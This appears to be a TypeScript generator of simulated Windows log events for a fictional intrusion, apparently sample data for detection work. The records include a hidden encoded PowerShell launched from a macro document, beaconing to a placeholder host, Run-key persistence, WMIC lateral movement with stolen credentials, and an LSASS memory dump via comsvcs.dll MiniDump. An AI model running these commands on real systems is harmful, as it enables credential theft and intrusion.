import { type Cast, hour, minute, people, system32, wmiCommand, wmiProvider } from "./cast.ts";
import type { SampleProcess } from "./facts.ts";

const implant = "C:\\Users\\tomas.eriksen\\AppData\\Local\\Temp\\nwupd.exe";
const control = { ip: "203.0.113.45", port: 443, name: "cdn-assets.example.net" };

/** The output file of a remote command: two underscores and the start time of the tool in seconds. */
function output(at: number): string {
  return `__${(at / 1000).toFixed(2)}`;
}

/**
 * The intrusion: a document on WS-07 installs an implant, which moves with stolen credentials over WMI to SRV-02 and
 * from there to SRV-05. Commands and names are fictional, modelled on common tools.
 */
export function intrusion(cast: Cast, outlook: SampleProcess): void {
  const begin = cast.day + 13 * hour + 31 * minute;
  const foothold = document(cast, outlook, begin);
  const second = fileServer(cast, foothold, begin + 22 * minute);
  managementServer(cast, second, begin + 41 * minute);
}

function document({ workstation: { log } }: Cast, outlook: SampleProcess, at: number): SampleProcess {
  const word = log.start({
    at,
    parent: outlook,
    image: "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    commandLine:
      '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\tomas.eriksen\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2\\Freight invoice 88213.docm"',
  });
  log.loadModule(at + 2_100, word, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL");
  const script = log.start({
    at: at + 4_300,
    parent: word,
    image: `${system32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
    commandLine:
      "powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0AA==",
    lasts: 21_000,
  });
  log.resolve(at + 6_000, script, control.name, control.ip);
  log.connect(at + 6_100, script, control);
  log.createFile(at + 7_800, script, implant);
  const agent = log.start({ at: at + 9_000, parent: script, image: implant, commandLine: implant });
  for (let beat = 0; beat < 24; beat++) {
    log.connect(at + 9_800 + beat * 3 * minute, agent, control);
  }
  log.setRegistry(
    at + 15_000,
    agent,
    "HKU\\S-1-5-21-1907513822-240886144-3120447719-1142\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\NwUpdate",
    implant,
  );
  const discover = (delay: number, image: string, commandLine: string) =>
    log.start({ at: at + delay, parent: agent, image: `${system32}\\${image}`, commandLine, lasts: 700 });
  discover(4 * minute, "whoami.exe", "whoami /groups");
  discover(4 * minute + 9_000, "nltest.exe", "nltest /dclist:nordwind");
  discover(5 * minute, "net.exe", 'net group "Domain Admins" /domain');
  return agent;
}

function fileServer({ workstation, fileServer: target }: Cast, agent: SampleProcess, at: number): SampleProcess {
  const from = { ip: workstation.log.host.ip, workstation: workstation.log.host.name };
  target.log.failedLogon(at - 70_000, people.lena, from);
  target.log.failedLogon(at - 64_000, people.lena, from);
  const remote = workstation.log.start({
    at,
    parent: agent,
    image: `${system32}\\wbem\\WMIC.exe`,
    commandLine: `"C:\\Windows\\System32\\wbem\\WMIC.exe" /node:SRV-02 /user:NORDWIND\\adm-lena process call create "cmd.exe /Q /c hostname 1> \\\\127.0.0.1\\ADMIN$\\${output(at)} 2>&1"`,
    lasts: 3_000,
  });
  workstation.log.explicitLogon(at + 240, remote, people.lena, target.log);
  workstation.log.connect(at + 300, remote, { ip: target.log.host.ip, port: 135, name: target.log.fqdn });
  const logonId = target.log.logon({
    at: at + 420,
    user: people.lena,
    type: 3,
    package: "NTLM",
    from,
    privileged: true,
    lasts: 14 * minute,
  });
  const broker = wmiProvider(target, at + 610);
  const run = (delay: number, command: string, lasts = 1_400) =>
    wmiCommand({
      at: at + delay,
      on: target,
      broker,
      user: people.lena,
      logonId,
      commandLine: `cmd.exe /Q /c ${command} 1> \\\\127.0.0.1\\ADMIN$\\${output(at)} 2>&1`,
      lasts,
    });
  const child = (parent: SampleProcess, delay: number, image: string, commandLine: string) =>
    target.log.start({
      at: at + delay,
      parent,
      image: `${system32}\\${image}`,
      commandLine,
      integrity: "High",
      lasts: 620,
    });

  child(run(720, "hostname"), 790, "HOSTNAME.EXE", "hostname");
  run(38_000, "cd \\");
  child(run(52_000, "whoami /all"), 52_080, "whoami.exe", "whoami /all");
  const accounts = child(
    run(95_000, "net localgroup administrators"),
    95_090,
    "net.exe",
    "net localgroup administrators",
  );
  child(accounts, 95_140, "net1.exe", `${system32}\\net1 localgroup administrators`);
  const copy = run(
    4 * minute,
    "copy \\\\WS-07\\C$\\Users\\tomas.eriksen\\AppData\\Local\\Temp\\nwupd.exe C:\\ProgramData\\nwupd.exe",
  );
  target.log.createFile(at + 4 * minute + 300, copy, "C:\\ProgramData\\nwupd.exe");
  const launcher = run(5 * minute, "C:\\ProgramData\\nwupd.exe -c 10.20.4.17:8443", 40 * minute);
  const second = target.log.start({
    at: at + 5 * minute + 140,
    parent: launcher,
    image: "C:\\ProgramData\\nwupd.exe",
    commandLine: "C:\\ProgramData\\nwupd.exe -c 10.20.4.17:8443",
    integrity: "High",
  });
  for (let beat = 0; beat < 12; beat++) {
    target.log.connect(at + 5 * minute + 900 + beat * 3 * minute, second, {
      ip: workstation.log.host.ip,
      port: 8443,
      name: workstation.log.fqdn,
    });
  }
  return second;
}

function managementServer(
  { fileServer: source, managementServer: target }: Cast,
  agent: SampleProcess,
  at: number,
): void {
  const remote = source.log.start({
    at,
    parent: agent,
    image: `${system32}\\wbem\\WMIC.exe`,
    commandLine: `wmic.exe /node:10.20.1.15 process call create "cmd.exe /Q /c tasklist /svc 1> \\\\127.0.0.1\\ADMIN$\\${output(at)} 2>&1"`,
    integrity: "High",
    lasts: 2_600,
  });
  source.log.explicitLogon(at + 200, remote, people.lena, target.log);
  source.log.connect(at + 260, remote, { ip: target.log.host.ip, port: 135, name: target.log.fqdn });
  const logonId = target.log.logon({
    at: at + 380,
    user: people.lena,
    type: 3,
    package: "NTLM",
    from: { ip: source.log.host.ip, workstation: source.log.host.name },
    privileged: true,
  });
  const broker = wmiProvider(target, at + 540);
  const run = (delay: number, command: string, lasts = 1_800) =>
    wmiCommand({
      at: at + delay,
      on: target,
      broker,
      user: people.lena,
      logonId,
      commandLine: `cmd.exe /Q /c ${command} 1> \\\\127.0.0.1\\ADMIN$\\${output(at)} 2>&1`,
      lasts,
    });
  const tasks = run(640, "tasklist /svc");
  target.log.start({
    at: at + 720,
    parent: tasks,
    image: `${system32}\\tasklist.exe`,
    commandLine: "tasklist /svc",
    integrity: "High",
    lasts: 900,
  });
  const dump = run(
    61_000,
    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 676 C:\\Windows\\Temp\\nw.bin full",
    6_000,
  );
  const rundll = target.log.start({
    at: at + 61_110,
    parent: dump,
    image: `${system32}\\rundll32.exe`,
    commandLine: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 676 C:\\Windows\\Temp\\nw.bin full",
    integrity: "High",
    lasts: 4_300,
  });
  target.log.access(at + 61_400, rundll, target.lsass, "0x1fffff");
  target.log.createFile(at + 61_700, rundll, "C:\\Windows\\Temp\\nw.bin");
  run(3 * minute, "del C:\\Windows\\Temp\\nw.bin");
}
